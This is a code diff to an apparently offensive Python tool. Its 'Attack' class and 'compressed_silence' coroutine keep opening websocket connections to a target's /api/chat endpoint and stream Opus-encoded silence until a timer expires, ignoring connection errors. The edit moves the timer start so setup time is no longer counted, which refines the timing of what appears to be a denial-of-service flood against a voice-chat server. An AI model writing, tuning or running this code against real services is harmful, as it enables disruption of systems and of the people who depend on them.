@@ -31,8 +31,13 @@ class Attack:
 
     def __init__(self, host: str, port: int, seconds: float):
         self.host, self.port = host, port
-        self.end = time.monotonic() + seconds
+        self.seconds = seconds
+        self.begin()
         self.sent = 0
+
+    def begin(self) -> None:
+        """Count the time from now on: what was prepared before is no attack."""
+        self.end = time.monotonic() + self.seconds
 
     @property
     def over(self) -> bool:
@@ -95,6 +100,7 @@ async def compressed_silence(attack: Attack) -> None:
     writer = sphn.OpusStreamWriter(24_000)
     audio = b"".join(writer.append_pcm(np.zeros(1920, np.float32)) for _ in range(360))
     url = f"ws://{attack.host}:{attack.port}/api/chat"
+    attack.begin()
     while not attack.over:
         with suppress(ConnectionClosed, OSError, TimeoutError):
             async with connect(url, proxy=None, compression=None, close_timeout=0.1) as ws:
